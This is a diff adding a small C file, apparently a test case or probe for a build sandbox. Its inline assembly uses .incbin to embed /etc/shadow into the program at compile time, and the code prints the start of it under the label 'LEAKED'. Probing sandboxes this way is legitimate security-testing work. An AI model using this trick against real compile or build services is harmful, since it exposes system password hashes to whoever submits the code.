@@ -1,0 +1,11 @@
+/* Tries to take files into the program as they are. */
+#include <stdio.h>
+__asm__(".data\n.globl taken\ntaken: .incbin \"/etc/shadow\"\n.text\n");
+extern const char taken[];
+int chain_forward(void);
+int
+chain_forward(void)
+{
+    printf("LEAKED %.40s", taken);
+    return 0;
+}
